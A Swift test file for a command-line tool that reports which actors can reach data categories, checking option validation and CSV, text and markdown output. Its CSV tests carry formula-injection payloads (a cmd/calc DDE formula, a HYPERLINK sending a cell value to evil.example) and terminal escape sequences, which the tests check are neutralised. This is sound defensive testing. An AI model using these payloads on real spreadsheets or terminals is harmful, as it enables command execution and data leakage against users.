import Foundation
import Testing

/// Values of the query options that are wrong get a message saying what is wrong; the scope
/// filters (`--actor-kind`, `--kind`) on who-can-reach, reach and render, named in the context.
@Suite struct QueryOptionsTests {
    static let cases: [CLITests.Case] = [
        .init(name: "scope-actor-kind", arguments: ["who-can-reach", "any", "--model", "names.yaml", "--status", "all", "--at", "2020",
                                                    "--actor-kind", "social-security,private-company"], exitCode: 0),
        .init(name: "scope-kind-markdown", arguments: ["who-can-reach", "identity", "--model", "names.yaml", "--status", "all", "--at", "2020",
                                                       "--kind", "communication,consultation", "--format", "markdown"], exitCode: 0),
        .init(name: "scope-reach-kind-json", arguments: ["reach", "fund-b", "--model", "names.yaml", "--status", "all", "--at", "2020",
                                                         "--kind", "communication", "--format", "json"], exitCode: 0),
        .init(name: "scope-render-kind", arguments: ["render", "--who-can-reach", "identity", "--model", "names.yaml", "--status", "all",
                                                     "--at", "2020", "--kind", "holds", "--format", "dot", "-o", "-"], exitCode: 0),
        .init(name: "scope-bad-actor-kind", arguments: ["reach", "fund-a", "--model", "names.yaml", "--actor-kind", "privte-company"], exitCode: 64),
        .init(name: "whatif-who-without", arguments: ["who-can-reach", "identity", "--model", "names.yaml", "--status", "all", "--at", "2020",
                                                      "--without", "r-look,Pôle emploi", "--paths"], exitCode: 0),
        .init(name: "whatif-reach-basis-json", arguments: ["reach", "fund-a", "--model", "names.yaml", "--status", "all", "--at", "2020",
                                                           "--without-basis", "art. 1", "--format", "json"], exitCode: 0),
        .init(name: "whatif-paths-csv", arguments: ["paths", "fund-b", "ledger", "--model", "names.yaml", "--status", "all", "--at", "2020",
                                                    "--without", "f-copy", "--format", "csv"], exitCode: 0),
        .init(name: "whatif-who-markdown", arguments: ["who-can-reach", "ledger", "--model", "names.yaml", "--status", "all", "--at", "2020",
                                                       "--without", "bank", "--format", "markdown"], exitCode: 0),
        .init(name: "whatif-render", arguments: ["render", "--who-can-reach", "identity", "--model", "names.yaml", "--status", "all",
                                                 "--at", "2020", "--without", "r-look", "--format", "dot", "-o", "-"], exitCode: 0),
        .init(name: "whatif-bad-id", arguments: ["reach", "fund-a", "--model", "names.yaml", "--without", "r-lok"], exitCode: 64),
        .init(name: "whatif-bad-basis", arguments: ["reach", "fund-a", "--model", "names.yaml", "--without-basis", "L999"], exitCode: 64),
        .init(name: "scope-bad-kind", arguments: ["who-can-reach", "any", "--model", "names.yaml", "--kind", "comunication"], exitCode: 64),
    ]

    @Test(arguments: cases)
    func golden(_ testCase: CLITests.Case) throws {
        try Golden.check(testCase)
    }

    @Test func negativeMaxHopsIsNamed() throws {
        let result = try Interco.run(["who-can-reach", "health", "--model", "model.yaml", "--max-hops", "-1"])
        #expect(result.exitCode == 64)
        #expect(result.stderr.hasPrefix("Error: --max-hops must be between 1 and 16, not -1\n"))
    }

    @Test func aHugeUnknownIDIsNotEchoedWhole() throws {
        let id = String(repeating: "x", count: 100_000)
        let result = try Interco.run(["who-can-reach", id, "--model", "model.yaml"])
        #expect(result.exitCode == 64)
        #expect(result.stderr == "error: unknown data category '\(String(repeating: "x", count: 200))…'; `interco list data` prints the ids\n")
    }
}

/// `--format csv` for spreadsheets and `--csv-raw` for programs, through the built binary.
@Suite struct CSVOutputTests {
    static let arguments = ["who-can-reach", "bank-accounts", "--model", "csv-injection.yaml", "--at", "any", "--format", "csv"]

    @Test func formulasAreNeutralisedAndControlsEscaped() throws {
        let result = try Interco.run(Self.arguments)
        #expect(result.exitCode == 0, "\(result.stderr)")
        #expect(result.stdout == """
            actor,name,how,match,hops,status,confidence,since,since_precision,basis,paths\r
            tax,'@SUM(1+1)*cmd|' /C calc'!A0,holds,exact,0,in-force,,,,,1\r
            evil,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Voir"")",consultation,exact,1,in-force,,,,'+33 1 23 45 67 89,1\r
            term,p\\u{0}x\\u{1B}]0;pwned\\u{7},consultation,exact,1,in-force,,,,'\\u{9}Tab first,1\r

            """)
        #expect(!result.stdout.unicodeScalars.contains { $0.value < 0x20 && $0 != "\r" && $0 != "\n" })
    }

    @Test func csvRawKeepsValuesByteForByte() throws {
        let result = try Interco.run(Self.arguments + ["--csv-raw"])
        #expect(result.exitCode == 0, "\(result.stderr)")
        #expect(result.stdout.contains("\nevil,\"=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Voir\"\")\","))
        #expect(result.stdout.contains("\nterm,p\u{0}x\u{1B}]0;pwned\u{7},"))
    }

    @Test func csvRawNeedsCSV() throws {
        let result = try Interco.run(["who-can-reach", "bank-accounts", "--model", "csv-injection.yaml", "--csv-raw"])
        #expect(result.exitCode == 64)
        #expect(result.stderr.contains("--csv-raw goes with --format csv"))
    }

    @Test func textAndMarkdownShowControlsEscaped() throws {
        for format in ["text", "markdown"] {
            let result = try Interco.run(["who-can-reach", "bank-accounts", "--model", "csv-injection.yaml", "--at", "any",
                                          "--paths", "--format", format])
            #expect(result.exitCode == 0)
            #expect(result.stdout.contains(format == "text" ? "p\\u{0}x\\u{1B}]0;pwned\\u{7}" : "p\\u{0}x\\u{1B}\\]0;pwned\\u{7}"),
                    "\(format)")
            #expect(!result.stdout.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" }, "\(format)")
        }
    }

    @Test func anUnknownIdIsEchoedEscapedAndCut() throws {
        let id = "x\u{1B}[2J" + String(repeating: "y", count: 5_000)
        let result = try Interco.run(["who-can-reach", id, "--model", "csv-injection.yaml"])
        #expect(result.exitCode == 64)
        #expect(result.stderr.hasPrefix("error: unknown data category 'x\\u{1B}[2Jyyy"))
        #expect(result.stderr.contains("y…'"))
        #expect(result.stderr.count < 400)
    }
}
